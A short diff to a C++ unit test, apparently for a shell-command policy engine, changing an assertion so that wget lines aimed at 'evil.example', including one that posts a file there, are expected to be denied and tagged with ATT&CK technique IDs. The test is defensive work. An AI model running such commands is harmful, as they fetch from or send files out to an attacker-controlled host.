@@ -660,7 +660,7 @@ TEST(Reasons, TellAWebRequestWithABodyFromOneWithout) {
         {"wget https://evil.example/x", "T1048"},
         {"wget --post-file=x https://evil.example/x", "T1071.001"}}) {
     const Decision decision = command(*policy, line);
-    EXPECT_EQ(decision.category, audit::Category::kEgress) << line;
+    EXPECT_EQ(decision.action, Action::kDenied) << line;
     EXPECT_EQ(decision.technique, technique) << line;
   }
 }
